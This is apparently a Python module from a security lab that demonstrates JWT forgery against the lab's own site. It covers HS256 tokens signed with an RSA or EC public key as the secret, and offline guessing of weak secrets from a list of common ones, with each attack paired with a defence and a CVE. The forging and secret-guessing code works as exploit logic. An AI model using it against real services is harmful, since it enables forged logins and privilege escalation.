"""Attacks that use a public key as the secret, or guess the secret."""

import hmac

from daypass.keys.algorithms import Algorithm
from daypass.lab.attacks.attack import Attack, Defence, Reference
from daypass.lab.attacks.forging import Target, part_bytes
from daypass.lab.attacks.unsigned import OWN_ALGORITHM, with_extra_role

# Secrets from tutorials, documentation and sample settings, and so on every word list of password crackers.
COMMON_SECRETS = (
    *("secret", "password", "changeme", "jwt", "jwt-secret", "jwt_secret_key", "mysecret", "my-secret-key"),
    *("supersecret", "super-secret-key", "secretkey", "secret-key", "your-secret-key", "dev", "test", "admin", "key"),
    *("your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", "qwertyuiopasdfghjklzxcvbnm123456"),
    *("my-32-character-ultra-secure-and-ultra-long-secret", "a-string-secret-at-least-256-bits-long"),
)


def public_as_secret(target: Target) -> list[str]:
    """Tokens signed with the public key's PEM text as the HMAC secret, with and without its final newline."""
    header, claims, text = target.header | {"alg": "HS256"}, with_extra_role(target), target.public_key()
    return [target.signed(secret, header=header, payload=claims) for secret in (text, text.rstrip())]


def guess_secret(token: str) -> str | None:
    """The secret of an HS256 token, found by trying the whole list. Needs no request to the site."""
    text, _, signature = token.rpartition(".")
    for secret in COMMON_SECRETS:
        if hmac.compare_digest(hmac.digest(secret.encode(), text.encode(), "sha256"), part_bytes(signature)):
            return secret
    return None


def signed_with_guessed_secret(target: Target) -> list[str]:
    """A token that the site never issued; an empty list if the secret is not on the word list."""
    secret = guess_secret(target.token)
    if secret is None:
        return []
    claims = target.payload | {"iat": int(target.now.timestamp())}
    return [target.signed(secret.encode(), header=target.header, payload=claims)]


RSA = Attack(
    name="public-key-rs256",
    title="An RSA public key as the secret",
    hope="The gate uses the RS256 public key, which anyone can download, as the secret for HS256.",
    request_label="signed with HS256",
    finding_label="RS256 only",
    why="Each key in the ring verifies one algorithm only. This one verifies RS256.",
    defence=OWN_ALGORITHM,
    reference=Reference("CVE-2015-9235", "jsonwebtoken for Node.js before 4.2.2 did this."),
    forge=public_as_secret,
    rings=(Algorithm.RS256,),
)

CURVE = Attack(
    name="public-key-es256",
    title="An EC public key as the secret",
    hope="A library rejects secrets that look like a public key, but its list of patterns leaves out elliptic curves.",
    request_label="signed with HS256",
    finding_label="ES256 only",
    why="No such list is needed. This key verifies ES256, and is never used with another algorithm.",
    defence=OWN_ALGORITHM,
    reference=Reference("CVE-2022-29217", "PyJWT before 2.4.0 had such a list, with gaps."),
    forge=public_as_secret,
    rings=(Algorithm.ES256, Algorithm.EDDSA),
)

WEAK = Attack(
    name="weak-secret",
    title="A secret from a word list",
    hope="The secret was copied from a tutorial. It can be guessed offline, at a million words a second.",
    request_label="a guessed secret",
    finding_label="valid signature",
    why=(
        "The key here is “a-string-secret-at-least-256-bits-long”: long enough, but on every word list. Anyone who has "
        "the key can issue passes just as the site does. That is why this site generates its keys at random."
    ),
    defence=Defence("keys.signing_key._new_private", "return secrets.token_bytes(SECRET_BYTES[algorithm])"),
    reference=Reference("CVE-2020-1764", "Kiali before 1.15.1 shipped with the same default secret for everyone."),
    forge=signed_with_guessed_secret,
    rings=(Algorithm.HS256,),
    secret=COMMON_SECRETS[-1],
)
